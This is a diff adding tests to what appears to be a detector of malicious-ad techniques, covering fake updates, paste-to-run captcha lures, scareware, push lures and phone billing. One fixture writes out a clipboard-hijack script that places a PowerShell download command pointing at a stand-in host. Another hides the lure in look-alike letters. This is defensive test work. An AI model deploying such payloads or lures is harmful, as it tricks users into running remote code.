@@ -66,6 +66,8 @@ describe('§2.5.13 techniques of malicious ads', () => {
     assert.deepEqual(slugsOf({ text, html: '<span role="button">Update Chrome</span>' }), ['fake_update']);
     assert.deepEqual(slugsOf({ text, html: '<div>Update Chrome</div>' }), []);
     assert.deepEqual(slugsOf({ text, html: '<button>Download</button>' }), ['fake_update']);
+    for (const file of ['Update.msixbundle', 'Chrome.7z', 'update.mobileconfig', 'chrome.vhd'])
+      assert.deepEqual(slugsOf({ text, html: `<a href="/get/${file}">Update</a>` }), ['fake_update'], file);
     assert.deepEqual(slugsOf({ text, html: '<button>Download the invoice</button>' }), []);
   });
 
@@ -78,6 +80,9 @@ describe('§2.5.13 techniques of malicious ads', () => {
       'Druk op de Windows-toets + R.\nPlak de code.',
       'Pulse las teclas Windows y R.\nPulse Ctrl y pegue el texto.',
       'Open the Run window, paste the code.',
+      'Press Win-R, then Ctrl-V.',
+      'Open File Explorer, press Ctrl + L, then Ctrl + V.',
+      'Open File Explorer and hit Alt+D, then paste the path.',
       'Press 🪟 + R, then Ctrl-V',
       'Press F12, open the console and paste the code.',
     ])
@@ -135,6 +140,7 @@ describe('§2.5.13 techniques of malicious ads', () => {
       assert.deepEqual(slugsOf({ text }), ['paste_to_run'], text);
     for (const text of [
       'I am human\nShortcuts: win and tap R to restart, Ctrl and Z to undo.',
+      'I am human\nShortcuts: Ctrl + L for the list, Ctrl + V to paste.',
       'Open the terminal and paste the command.\nDo you need help from a real person?',
     ])
       assert.deepEqual(slugsOf({ text }), [], text);
@@ -211,6 +217,80 @@ describe('§2.5.13 techniques of malicious ads', () => {
       assert.deepEqual(slugsOf({ text }, [form({})]), [], text);
     }
     assert.deepEqual(slugsOf({ text: 'Validate your wallet. Beware of scams: a scam' }, [asked]), []);
+  });
+
+  it('scareware is found for the make that a kit inserts, and an account of that make is no device', () => {
+    const stay = '\nDo not close this window.';
+    for (const text of [
+      'Your Apple iPhone is severely damaged by 16 viruses!',
+      'Your Google Pixel has been hacked.',
+      'Ihr Samsung ist infiziert.',
+      'Votre Xiaomi est infecté.',
+      'Tu Samsung está infectado.',
+    ])
+      assert.deepEqual(slugsOf({ text: text + stay }), ['scareware'], text);
+    const account = 'Your Samsung account has been locked.\nContact support: +44 20 5550 1234';
+    assert.deepEqual(slugsOf({ text: account }), []);
+  });
+
+  it('a report on what victims saw is no scareware', () => {
+    const text =
+      '"Your computer has been locked", the victims read. "Pay a ransom of $300 within three days": police count 200 victims.';
+    assert.deepEqual(slugsOf({ text }), []);
+  });
+
+  it('a tutorial that names what is to be typed is no paste_to_run beside the captcha of its comments', () => {
+    const captcha = '\nComments\nI am not a robot';
+    const tutorials = [
+      'Press Windows + R, type regedit or paste it with Ctrl + V, and press Enter.',
+      'Press Win + R and paste %appdata%\\Acme\\Saves',
+      'Press Win + R, paste services.msc and press Enter.',
+      'Open a terminal and paste: sudo apt install acme',
+    ];
+    for (const text of tutorials) {
+      assert.deepEqual(slugsOf({ text: text + captcha }), [], text);
+      const html = '<script>navigator.clipboard.writeText("powershell -c iwr https://x.example/a")</script>';
+      assert.deepEqual(slugsOf({ text: text + captcha, html }), ['paste_to_run'], text);
+    }
+    assert.deepEqual(slugsOf({ text: `Press Windows + R.\nPress Ctrl + V.${captcha}` }), ['paste_to_run']);
+    const decoy = `${tutorials[0]} ${'More about it. '.repeat(100)}I am not a robot: press Windows + R, then Ctrl + V.`;
+    assert.deepEqual(slugsOf({ text: decoy }), ['paste_to_run']);
+  });
+
+  it('paste_to_run is found in an instruction in look-alike letters that is shown later', () => {
+    const html =
+      '<p hidden="">І аm nоt а rоbоt: рrеss Wіndоws + R, Сtrl + V</p><script>navigator.clipboard.writeText(a)</script>';
+    assert.deepEqual(slugsOf({ text: 'Check', html }), ['paste_to_run']);
+  });
+
+  it('push_lure is found if a script in a file requests the permission, such as after a click', () => {
+    const page = { text: 'Click Allow to confirm that you are not a robot' };
+    const slugs = (code: string) => slugsOf(page, [], { bodies: [scriptFile(code)] });
+    assert.deepEqual(slugs('go.onclick=()=>Notification.requestPermission()'), ['push_lure']);
+    assert.deepEqual(slugs('DeviceMotionEvent.requestPermission()'), []);
+  });
+
+  it('forced_subscription is found where operators bill subscriptions with the telephone', () => {
+    for (const text of [
+      'Rp 2.200/hari',
+      '5.000đ/ngày',
+      '9 บาท/วัน',
+      '٣ د.ك في اليوم'.replace('٣', '3'),
+      '₹10 प्रति दिन',
+      'R7.00 per day',
+      '매월 9,900원',
+      '每天2元',
+    ]) {
+      const small = observed('price', { text, font_px: 7, contrast: 12, in_page: true });
+      assert.deepEqual(slugsOf({}, [small]), ['forced_subscription'], text);
+      assert.deepEqual(
+        slugsOf({}, [observed('preselected', { label: `Club: ${text}` })]),
+        ['forced_subscription'],
+        text,
+      );
+    }
+    for (const label of ['Kirim 2 email per hari', '每天收到新闻', 'Mỗi ngày một tin'])
+      assert.deepEqual(slugsOf({}, [observed('preselected', { label })]), [], label);
   });
 });
 
